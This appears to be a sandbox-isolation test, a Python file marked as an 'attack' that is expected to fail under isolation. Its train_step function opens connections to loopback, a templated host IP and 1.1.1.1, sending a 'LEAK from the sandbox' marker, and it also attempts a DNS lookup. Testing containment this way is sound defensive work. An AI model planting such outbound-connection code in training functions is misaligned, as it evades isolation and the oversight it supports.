# attack: open network connections: to a server on the host's loopback, to the internet, and DNS
# applies: isolated
# expect: error
import socket


def try_connect(host, port):
    try:
        with socket.create_connection((host, port), timeout=2) as conn:
            conn.sendall(b"LEAK from the sandbox\n")
        print("LEAK: connected to", host, port)
        return True
    except OSError as exc:
        print("no connection to", host, port, exc)
        return False


def train_step(model, optimizer, inputs, targets, device_type, amp_dtype):
    results = [try_connect("127.0.0.1", __PORT__), try_connect("__HOST_IP__", __PORT__), try_connect("1.1.1.1", 80)]
    try:
        print("LEAK: resolved", socket.getaddrinfo("deb.debian.org", 80))
    except OSError as exc:
        print("no DNS", exc)
    raise RuntimeError(f"network attempts: {results}")
